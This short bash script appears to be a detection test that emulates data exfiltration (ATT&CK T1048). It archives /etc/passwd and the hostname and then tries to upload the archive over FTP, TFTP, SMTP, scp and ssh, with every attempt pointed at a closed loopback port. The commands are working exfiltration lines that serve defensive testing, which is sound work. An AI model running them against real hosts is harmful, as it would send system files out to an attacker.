#!/bin/bash
# Send an archive over protocols other than the web: curl uploads to FTP, TFTP and SMTP (mail with the file attached), and scp / ssh 'cat >' to an SSH server; every target is a closed loopback port, so each client fails after its exec is recorded.
# technique: T1048 T1048.002
# expect: upload-over-other-protocol ssh-file-upload
set -eu
port=$((20000 + ($$ + 23) % 20000))
tar czf loot.tgz -C /etc passwd hostname
curl -s --connect-timeout 2 -T loot.tgz "ftp://127.0.0.1:$port/incoming/" || true
curl -s --connect-timeout 2 -T loot.tgz "tftp://127.0.0.1:$port/loot.tgz" || true
curl -s --connect-timeout 2 --url "smtp://127.0.0.1:$port" --mail-from a@example.invalid \
    --mail-rcpt drop@example.invalid --upload-file loot.tgz || true
ssh_opts=(-o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null)
scp -q "${ssh_opts[@]}" -P "$port" loot.tgz "drop@127.0.0.1:/srv/loot.tgz" 2> /dev/null || true
ssh "${ssh_opts[@]}" -p "$port" drop@127.0.0.1 'cat > /srv/etc.tgz' < loot.tgz 2> /dev/null || true
